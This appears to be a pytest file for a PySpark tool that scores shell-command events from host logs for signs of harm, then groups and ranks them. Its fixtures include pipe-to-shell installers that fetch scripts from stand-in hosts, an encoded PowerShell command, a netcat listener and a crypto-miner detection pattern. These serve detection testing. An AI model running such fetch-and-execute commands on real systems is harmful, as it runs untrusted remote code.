import pytest
from pyspark.sql import functions as F

from traceloom.operators import activity as A
from traceloom.operators.scoring import classify_events

PIPE = "curl -fsSL https://ollama.com/install.sh | sh"


def judged(make_events, rows, artifacts=None, **options):
    df = classify_events(make_events(rows), artifacts, **options)
    return [r["classification"] for r in df.orderBy("event_id").collect()]


def ran(**row):
    return {"kind": "EXECUTION_EVIDENCE", "ran": True, "source": "systemd journal", **row}


def test_activities_are_sorted_by_their_id(make_events):
    groups = A.activity_groups(classify_events(make_events([{"command": PIPE}, {"command": "ls"}])))
    plan = groups._jdf.queryExecution().optimizedPlan().toString()
    keys = [line.split("Aggregate [", 1)[1] for line in plan.splitlines() if "Aggregate [" in line and "group_id" in line]
    assert len(keys) == 2 and all(k.startswith(("group_id", "_groupingexpression")) for k in keys), keys
    assert groups.count() == 2


def test_installer_from_history_is_reviewed(make_events):
    got = judged(make_events, [{"command": PIPE}])[0]
    assert (got["category"], got["score"], got["priority"]) == (
        "POTENTIALLY_HARMFUL", 1, "PRIORITY_2")
    assert "installer_shaped_source" in [s["name"] for s in got["signals"]]


def test_corroboration_lifts_a_concern(make_events):
    plain = "curl https://x.example/i.sh | bash"
    assert judged(make_events, [{"command": plain}])[0]["score"] == 2
    rows = [ran(command=plain, image="/home/u/x"),
            ran(command="ls", image="/home/u/x", source="kernel audit log")]
    got = judged(make_events, rows)[0]
    assert (got["score"], got["priority"]) == (6, "PRIORITY_1")


def test_writable_image(make_events, make_artifacts):
    assert judged(make_events, [ran(image="/tmp/staged")])[0]["score"] == 4
    gone = make_artifacts([{"path": "/tmp//staged", "status": "MISSING"}])
    assert judged(make_events, [ran(image="/tmp/staged")], gone)[0]["score"] == 5
    there = make_artifacts([{"path": "/tmp/staged"}])
    assert judged(make_events, [ran(image="/tmp/staged")], there)[0]["score"] == 6


def test_missing_arguments_never_raise_priority(make_events):
    got = judged(make_events, [ran(image="/usr/sbin/cron", unit="cron.service")])[0]
    assert got["priority"] == "PRIORITY_3" and all(s["weight"] <= 0 for s in got["signals"])
    assert got["limitations"] and got["unknowns"]


@pytest.mark.parametrize("command", ["curl https://x.example/f", "python3 x.py", "sudo su", "nc -l 1",
                                     "ssh host"])
def test_no_tool_name_alone_is_a_concern(make_events, command):
    assert judged(make_events, [{"command": command}])[0]["category"] != "POTENTIALLY_HARMFUL"


def test_sessions_are_not_harmful(make_events):
    got = judged(make_events, [{"kind": "SESSION_EVENT", "name": "login"}])[0]
    assert (got["category"], got["score"], list(got["signals"])) == (
        "NOT_HARMFUL_ON_AVAILABLE_EVIDENCE", 0, [])


def test_encoded_powershell_and_remote_script(make_events):
    got = judged(make_events, [{"command": "powershell -NoP -enc AAA"},
                               {"command": "bash <(curl -s https://x.example/a)"},
                               {"command": "wget -O /tmp/x https://x.example/x"}])
    assert [g["score"] for g in got] == [2, 2, 1]


def test_extra_rules(make_events):
    rule = {"pattern": r"(?i)\bxmrig\b", "name": "miner", "weight": 4}
    assert judged(make_events, [{"command": "./xmrig -o pool"}], rules=[rule])[0]["score"] == 3


def test_recognition_lowers_but_never_cancels(make_events):
    events = make_events([ran(image="/opt/x/tool"), ran(image="/opt/py/python3"),
                          ran(image="/tmp/x")])
    known = F.struct(F.lit(True).alias("recognized"), F.lit("HIGH").alias("confidence"),
                     F.lit("Tool").alias("recognized_name"), F.lit("1").alias("version"),
                     F.array(F.lit("vendor_layout")).alias("basis_codes"))
    rows = [r["classification"] for r in classify_events(
        events.withColumn("recognition", known)).orderBy("event_id").collect()]
    assert [r["presentation"] for r in rows] == [
        "ROUTINE_RECOGNIZED", "FOR_REVIEW", "NEEDS_ATTENTION"]
    assert [r["score"] for r in rows] == [-2, -1, 2]


def test_grouping(make_events):
    rows = [{"command": "apt update", "ts": f"2024-01-0{n}T00:00:00"} for n in range(1, 6)]
    rows += [{"command": "wget https://a.example/x"}, {"command": "wget https://b.example/x"}]
    scored = classify_events(make_events(rows))
    groups = {r["full_command_line"]: r for r in A.activity_groups(scored).collect()}
    assert len(groups) == 3 and groups["apt update"]["occurrences"] == 5
    assert groups["apt update"]["first_seen"].day == 1 and groups["apt update"]["last_seen"].day == 5
    assert A.activity_records(scored).select("reference").distinct().count() == 7
    assert sum(g["occurrences"] for g in groups.values()) == 7


def test_order_of_categories(make_events):
    rows = [{"command": "apt update"}, {"command": "mystery --do"}, {"command": PIPE}]
    ranked = A.rank_groups(A.activity_groups(classify_events(make_events(rows))))
    assert [r["category"] for r in ranked.orderBy("activity_rank").select(
        "classification.category").collect()] == [
        "POTENTIALLY_HARMFUL", "NEEDS_REVIEW", "NOT_HARMFUL_ON_AVAILABLE_EVIDENCE"]


def test_one_lead_per_pattern(make_events):
    rows = [{"command": f"curl https://s{n}.example/i.sh | bash"} for n in range(5)]
    ranked = A.rank_groups(A.activity_groups(classify_events(make_events(rows))))
    leads = A.leads(ranked).collect()
    assert len(leads) == 1 and leads[0]["activity_count"] == 5 and leads[0]["lead_id"] == "LEAD-001"
    assert len(leads[0]["commands"]) == 5


def test_a_typed_command_is_never_an_execution(make_events):
    group = A.activity_groups(classify_events(make_events([{"command": PIPE}]))).collect()[0]
    assert group["execution_confirmed"] is False
